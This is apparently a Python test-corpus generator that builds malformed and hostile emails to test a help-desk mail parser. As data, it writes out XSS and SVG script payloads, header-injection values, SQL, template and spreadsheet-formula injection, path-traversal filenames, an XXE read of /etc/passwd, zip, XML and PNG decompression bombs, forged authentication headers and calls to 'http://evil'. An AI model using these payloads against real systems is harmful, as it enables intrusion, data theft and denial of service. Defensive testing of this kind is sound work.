"""Mails as nobody should send them, each under a name that says what is wrong with it. All made here, from nothing."""

from __future__ import annotations

import base64
import io
import struct
import zipfile
import zlib
from collections.abc import Iterator, Mapping
from random import Random

CRLF = b"\r\n"
LOOKS = b'Content-Type: text/plain; charset="utf-8"'
MIXED = b"Content-Type: multipart/mixed; boundary=edge"


def head(name: str, *more: bytes, **instead: bytes | None) -> list[bytes]:
    """The headers of an ordinary mail; ``instead`` replaces one of them, or leaves it out (None)."""
    usual: dict[str, bytes | None] = {
        "From": b"Alice Arden <alice@school.example>",
        "To": b"desk@fettle.example",
        "Subject": b"The projector in room 12",
        "Message_ID": f"<{name}@school.example>".encode(),
        "Date": b"Mon, 02 Nov 2026 10:00:00 +0000",
        "MIME_Version": b"1.0",
    }
    lines = [
        f"{key.replace('_', '-')}: ".encode() + value for key, value in (usual | instead).items() if value is not None
    ]
    return [*lines, *more]


def mail(
    name: str, *more: bytes, looks: bytes = LOOKS, body: bytes = b"It shows no picture.", **instead: bytes | None
) -> bytes:
    """A mail of one part."""
    return CRLF.join([*head(name, *more, **instead), looks, b"", body, b""])


def parted(name: str, *parts: bytes, looks: bytes = MIXED, end: bytes = b"--edge--", **instead: bytes | None) -> bytes:
    """A mail of several parts, each with its own headers."""
    pieces = [line for part in parts for line in (b"--edge", part)]
    return CRLF.join([*head(name, **instead), looks, b"", *pieces, end, b""])


TEXT = b"Content-Type: text/plain\r\n\r\nSee the file."


def attached(
    name: bytes, content: bytes = b"content", kind: bytes = b"application/octet-stream", how: bytes = b""
) -> bytes:
    """A part that is a file. ``how`` is its whole disposition, where it is not said as usual."""
    said = how or b'attachment; filename="' + name + b'"'
    lines = (b"Content-Type: " + kind, b"Content-Transfer-Encoding: base64", b"Content-Disposition: " + said)
    return CRLF.join([*lines, b"", base64.encodebytes(content).replace(b"\n", CRLF)])


def _nested(depth: int, inner: bytes) -> bytes:
    opened = b"".join(
        b"Content-Type: multipart/mixed; boundary=e%d\r\n\r\n--e%d\r\n" % (level, level) for level in range(depth)
    )
    return opened + inner


def _forwarded(depth: int) -> bytes:
    made = mail("innermost")
    for level in range(depth):
        made = CRLF.join([*head(f"forward-{level}"), b"Content-Type: message/rfc822", b"", made])
    return made


def _zip_bomb() -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as archive, archive.open("zeros", "w") as inside:
        for _ in range(100):
            inside.write(bytes(1_000_000))
    return held.getvalue()


def _png_of_gigapixels() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    size = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", size) + chunk(b"IDAT", zlib.compress(bytes(1000))) + chunk(b"IEND", b"")
    )


def _xml_bomb() -> bytes:
    rows = b"".join(b'<!ENTITY %c "%s">' % (98 + at, b"&%c;" % (97 + at) * 10) for at in range(8))
    return b'<!DOCTYPE l [<!ENTITY a "aaaaaaaaaa">' + rows + b"]><l>&i;</l>"


def _letters() -> Iterator[tuple[str, bytes]]:
    def said(charset: bytes, body: bytes) -> bytes:
        return mail("letters", looks=b"Content-Type: text/plain; charset=" + charset, body=body)

    yield "charset-unknown", said(b"x-no-such", b"\xff\xfe\xe9")
    yield "charset-wrong", said(b"us-ascii", "Přístroj nesvítí".encode())
    yield "charset-missing", mail("letters", looks=b"Content-Type: text/plain", body="Přístroj".encode())
    yield (
        "charset-utf-7-script",
        mail(
            "utf-7", looks=b"Content-Type: text/html; charset=utf-7", body=b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-"
        ),
    )
    yield "charset-utf-16-without-mark", said(b"utf-16", "Dobrý den".encode("utf-16-be"))
    yield "charset-halves", said(b"utf-8", b"\xed\xa0\x80\xed\xb0\x80")
    yield "charset-rot13", said(b"rot13", b"uryyb")
    yield "charset-zlib", said(b"zlib_codec", b"x\x9c")
    yield "charset-idna-long", said(b"idna", b"a" * 30_000)
    yield "charset-unicode-escape", said(b"unicode_escape", b"\\ud800\\x00")
    yield "charset-named-twice", said(b"utf-8; charset=latin-1", b"\xe9")
    yield "encoding-unknown", mail("encoding", b"Content-Transfer-Encoding: x-no-such")
    yield "base64-broken", mail("base64", b"Content-Transfer-Encoding: base64", body=b"!!!not base64===\r\nAAA")
    yield (
        "quoted-printable-broken",
        mail("printable", b"Content-Transfer-Encoding: quoted-printable", body=b"=ZZ=\r\n=3"),
    )
    uu = b"begin 644 x\r\n" + b"M" + b"A" * 60 + CRLF * 1000
    yield "uuencode-endless", mail("uu", b"Content-Transfer-Encoding: x-uuencode", body=uu)
    yield "text-with-nul", mail("nul", body=b"a\x00b\x00c")
    yield (
        "text-flowed",
        mail(
            "flowed",
            looks=b"Content-Type: text/plain; format=flowed; delsp=yes",
            body=b"The projec \r\ntor \r\n\r\n> is off \r\n> again",
        ),
    )
    long = b"word " * 15 + b"\r\n"
    yield "text-flowed-10-mb", mail("flow", looks=b"Content-Type: text/plain; format=flowed", body=long * 130_000)
    yield "text-of-marks", mail("zalgo", body=("a" + "\u0301" * 100_000).encode())
    yield "text-turned-round", mail("bidi", body="invoice \u202egnp.exe".encode())
    yield "text-of-one-line", mail("line", body=b"A" * 10_000_000)
    yield "text-of-blanks", mail("blanks", body=b" " * 200_000 + b"x")
    yield "text-of-quotation-marks", mail("marks", body=b"> " * 50_000)
    yield "text-of-naming-lines", mail("wrote", body=b"On 1 Nov 2026 a@b.example wrote:\r\n" * 5_000)
    yield "text-of-headers", mail("from", body=b"From: a\r\nSent: b\r\nTo: c\r\n" * 5_000)
    yield "text-of-one-address", mail("url", body=b"http://" + b"a." * 50_000 + b"!")


def _headers() -> Iterator[tuple[str, bytes]]:
    yield "subject-with-nul", mail("nul", Subject=b"a\x00b")
    yield "subject-badly-encoded", mail("encoded", Subject=b"=?utf-8?B?////?= =?x?q?y?=")
    yield "subject-huge", mail("huge", Subject=b"A" * 200_000)
    yield "subject-smuggles-header", mail("smuggled", Subject=b"=?utf-8?Q?a=0D=0ABcc:_victim@x.example?=")
    yield "reply-to-smuggles-header", mail("smuggled", b"Reply-To: =?utf-8?Q?a=0D=0ABcc:_v@x.example?= <r@x.example>")
    yield "subject-missing", mail("subject", Subject=None)
    yield "headers-of-many-names", mail("many", *(b"X-%d: y" % at for at in range(20_000)))
    yield (
        "headers-of-one-name",
        mail("many", *(b"Received: from a by b; Mon, 02 Nov 2026 10:00:00 +0000" for _ in range(300))),
    )
    yield (
        "references-by-thousands",
        mail("references", b"References: " + b" ".join(b"<%d@x>" % at for at in range(5_000))),
    )
    yield "comments-nested", mail("comments", b"X-From: " + b"(" * 20_000 + b")" * 20_000 + b" a@b.c")
    yield "sender-of-comments", mail("comments", From=b"(" * 5_000 + b")" * 5_000 + b" a@b.example")
    yield "senders-by-thousands", mail("senders", From=b", ".join(b"a%d@x.example" % at for at in range(5_000)))
    yield "sender-twice", b"From: agent@fettle.example\r\n" + mail("twice")
    yield "sender-empty", mail("empty", From=b"<>")
    yield "sender-missing", mail("missing", From=None)
    yield "sender-in-the-name", mail("name", From=b'"agent@fettle.example" <mallory@evil.example>')
    yield "sender-undisclosed", mail("group", From=b"undisclosed:;")
    yield "sender-of-lookalikes", mail("homoglyph", From="Alice <аlice@school.example>".encode())
    yield "sender-idn-long", mail("idn", From=b"a@xn--" + b"a" * 300 + b".example")
    yield "sender-quoted", mail("quoted", From=b'"a b"@school.example')
    yield "date-of-nonsense", mail("date", Date=b"Foo, 99 Bar 99999 99:99:99 +9999")
    yield "date-of-year-0", mail("date", Date=b"Mon, 01 Jan 0000 10:00:00 +0000")
    yield "date-of-far-zone", mail("date", Date=b"Mon, 02 Nov 2026 10:00:00 +999999999999")
    yield "date-missing", mail("date", Date=None)
    yield "identifier-missing", mail("none", Message_ID=None)
    yield "identifier-empty", mail("none", Message_ID=b"<>")
    yield "identifier-broken", mail("none", Message_ID=b"<a b c@@@[>")
    yield "identifier-long", mail("none", Message_ID=b"<" + b"a" * 70_000 + b"@x>")
    yield "identifier-of-sql", mail("none", Message_ID=b"<'or'1'='1';--@x>")
    yield "template-in-subject", mail("template", Subject=b"{{ settings.SECRET_KEY }} {% debug %} ${7*7} <%= 7*7 %>")
    yield (
        "formula-in-subject",
        mail("formula", Subject=b'=HYPERLINK("http://evil","x")', body=b"@SUM(1+1)*cmd|'/c calc'!A0"),
    )
    yield "forged-check", mail("check", b"Authentication-Results: mx.fettle.example; dkim=pass header.d=fettle.example")
    forged = (b"In-Reply-To: <INC-000001.00@fettle.example>", b"References: <notify-1-1@fettle.example>")
    yield "forged-answer", mail("answer", *forged, Subject=b"Re: [INC-000001] x")


def _parts() -> Iterator[tuple[str, bytes]]:
    yield "edge-never-closed", parted("edge", TEXT, end=b"")
    yield "edge-not-named", parted("edge", TEXT, looks=b"Content-Type: multipart/mixed")
    yield "edge-empty", parted("edge", TEXT, looks=b'Content-Type: multipart/mixed; boundary=""')
    yield "parts-by-thousands", parted("parts", *[TEXT] * 10_000)
    yield "parts-nested-3000", CRLF.join([*head("nested"), _nested(3_000, TEXT)])
    yield "parts-nested-60", CRLF.join([*head("nested"), _nested(60, TEXT)])
    yield "mails-in-mails-400", _forwarded(400)
    yield "mail-in-mail", _forwarded(1)
    outside = b'Content-Type: message/external-body; access-type=URL; URL="http://127.0.0.1:1/"\r\n\r\nx'
    yield "body-elsewhere", parted("elsewhere", outside)
    partial = b'Content-Type: message/partial; id="x"; number=1; total=2'
    yield "half-a-mail", parted("half", TEXT, looks=partial)
    yield "winmail", mail("tnef", looks=b"Content-Type: application/ms-tnef", body=b"\x78\x9f\x3e\x22")
    yield (
        "sealed-broken",
        mail("smime", looks=b"Content-Type: application/pkcs7-mime; smime-type=enveloped-data", body=b"AAAA"),
    )
    pgp = b'Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary=edge'
    yield "encrypted-broken", parted("pgp", looks=pgp)
    calendar = b"Content-Type: text/calendar; method=REQUEST\r\n\r\nBEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\n"
    calendar += b"RRULE:FREQ=SECONDLY;COUNT=999999999\r\nEND:VEVENT\r\nEND:VCALENDAR"
    yield "invitation-every-second", parted("ics", TEXT, calendar)


NAMES = {
    "climbs": b"../../../../etc/cron.d/x",
    "climbs-in-windows": b"..\\\\..\\\\win.ini",
    "ends-early": b"a\\0.png",
    "configures-server": b".htaccess",
    "configures-server-unseen": "\u200b.htaccess".encode(),
    "turned-round": "invoice\u202egpj.exe".encode(),
    "device": b"CON",
    "long": b"a" * 4_000,
    "page": b"x.html",
    "mail": b"x.eml",
    "parameters": b"a;b=c.txt",
    "empty": b"",
    "option": b"-rf",
    "two-endings": b"x.php.png",
    "encoded": b"%2e%2e%2fx",
}


def _files() -> Iterator[tuple[str, bytes]]:
    for name, said in NAMES.items():
        yield f"file-name-{name}", parted(name, TEXT, attached(said, b"<script>alert(1)</script>"))
    drawing = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
    yield "file-svg-with-script", parted("svg", TEXT, attached(b"x.svg", drawing, b"image/svg+xml"))
    pieces = b"attachment; filename*0*=utf-8''%2e%2e; filename*1*=%2fetc%2fpasswd"
    yield "file-name-in-pieces", parted("pieces", TEXT, attached(b"", how=pieces))
    broken = b"attachment; filename*=no-such-charset'x'%ff%fe; filename*9=z"
    yield "file-name-in-broken-pieces", parted("pieces", TEXT, attached(b"", how=broken))
    page = b"<html><script>alert(1)</script>"
    yield "file-of-another-kind", parted("kind", TEXT, attached(b"x.png", page, b"image/png"))
    yield "file-zip-bomb", parted("zip", TEXT, attached(b"b.zip", _zip_bomb(), b"application/zip"))
    yield "file-png-of-gigapixels", parted("png", TEXT, attached(b"b.png", _png_of_gigapixels(), b"image/png"))
    yield "file-xml-bomb", parted("xml", TEXT, attached(b"b.xml", _xml_bomb(), b"text/xml"))
    inside = b'<!DOCTYPE l [<!ENTITY x SYSTEM "file:///etc/passwd">]><l>&x;</l>'
    yield "file-xml-reads-files", parted("xxe", TEXT, attached(b"b.xml", inside, b"text/xml"))
    html = b"Content-Type: text/html\r\n\r\n<p>Here</p><img src=cid:a><img src=http://127.0.0.1:1/seen>"
    picture = b"Content-Type: image/png\r\nContent-ID: <a>\r\n\r\nx"
    yield "image-in-html", parted("image", html, picture, looks=b"Content-Type: multipart/related; boundary=edge")


def _markup() -> Iterator[tuple[str, bytes]]:
    def html(body: bytes) -> bytes:
        return mail("html", looks=b"Content-Type: text/html; charset=utf-8", body=body)

    yield (
        "html-of-scripts",
        html(
            b"<p>Read me</p><script>alert(1)</script><img src=x onerror=alert(1)>"
            b"<svg><style><img src=x onerror=alert(1)></style></svg>"
            b"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>"
            b"<a href='java&#x09;script:alert(1)'>x</a><form action=http://evil><input name=p><base href=http://evil>"
            b"<meta http-equiv=refresh content='0;url=http://evil'><iframe src=http://evil></iframe>"
        ),
    )
    yield (
        "html-of-styles",
        html(
            b"<style>*{background:url(http://evil/x)}@import 'http://evil';</style>"
            b"<div style='position:fixed;top:0;left:0;width:100%;height:100%'>over everything</div>"
        ),
    )
    yield "html-nested-100000", html(b"<div>" * 100_000 + b"deep")
    yield "html-of-words-program", html(b"<p class=MsoNormal><span style='mso-x:y'>a" * 30_000)
    yield "html-never-closed", html(b"<a href='" * 30_000)
    yield "html-of-comments", html(b"<!--" * 100_000)
    yield "html-of-entities", html(b"&" * 300_000)


def _machines() -> Iterator[tuple[str, bytes]]:
    yield "machine-answers", mail("auto", b"Auto-Submitted: auto-replied")
    yield "machine-generates", mail("auto", b"Auto-Submitted: auto-generated")
    yield "machine-in-bulk", mail("bulk", b"Precedence: bulk")
    yield "machine-answers-old", mail("old", b"X-Autoreply: yes", b"X-Auto-Response-Suppress: All")
    yield "machine-of-a-list", mail("list", b"List-Id: <l.x.example>", b"List-Unsubscribe: <http://127.0.0.1:1/u>")
    yield "machine-that-is-us", mail("loop", b"X-Loop: desk@fettle.example", b"Reply-To: desk@fettle.example")
    yield "machine-without-reply", mail("noreply", From=b"no-reply@shop.example")
    yield "report-of-failure", report("<lost@fettle.example>", "bob@school.example")
    yield "report-of-nothing", parted("report", looks=b"Content-Type: multipart/report; boundary=edge")


def report(lost: str, address: str) -> bytes:
    """What a mail server says of a mail that it could not deliver."""
    status = b"Content-Type: message/delivery-status\r\n\r\nReporting-MTA: dns; mx.school.example\r\n\r\n"
    status += b"Final-Recipient: rfc822; %s\r\nAction: failed\r\nStatus: 5.1.1" % address.encode()
    original = b"Content-Type: text/rfc822-headers\r\n\r\nFrom: desk@fettle.example\r\nMessage-ID: %s" % lost.encode()
    told = b"Content-Type: text/plain\r\n\r\nNobody of that name lives here."
    looks = b"Content-Type: multipart/report; report-type=delivery-status; boundary=edge"
    return b"Return-Path: <>\r\n" + parted(
        "report", told, status, original, looks=looks, From=b"MAILER-DAEMON@mx.school.example"
    )


def _nothing() -> Iterator[tuple[str, bytes]]:
    yield "nothing", b""
    yield "no-headers", b"just text\r\nno headers\r\n"
    yield "no-body", CRLF.join([*head("body"), b"", b""])
    yield "lines-of-unix", mail("unix").replace(CRLF, b"\n")
    yield "lines-of-old-macs", mail("mac").replace(CRLF, b"\r")
    yield "plain", mail("plain")


def corpus() -> Mapping[str, bytes]:
    """All of them by name."""
    found: dict[str, bytes] = {}
    for group in (_nothing, _letters, _headers, _parts, _files, _markup, _machines):
        for name, raw in group():
            assert name not in found, name
            found[name] = raw
    return found


def mutated(raw: bytes, chance: Random) -> bytes:
    """The mail with a few of its bytes changed, left out, doubled or moved: what networks and attackers do."""
    data = bytearray(raw[:200_000])
    for _ in range(chance.randint(1, 12)):
        if not data:
            break
        at = chance.randrange(len(data))
        to = min(len(data), at + chance.choice((1, 1, 2, 8, 64)))
        piece = bytes(data[at:to])
        what = chance.randrange(5)
        if what == 0:
            data[at:to] = bytes(chance.randrange(256) for _ in piece)
        elif what == 1:
            del data[at:to]
        elif what == 2:
            data[at:at] = piece * chance.choice((1, 3))
        elif what == 3:
            data[at:at] = chance.choice((b"\r\n", b"\x00", b"\r\n\r\n", b"=?utf-8?B?", b"--edge", b"<", b"\xff"))
        else:
            elsewhere = chance.randrange(len(data))
            data[elsewhere:elsewhere] = piece
    return bytes(data)
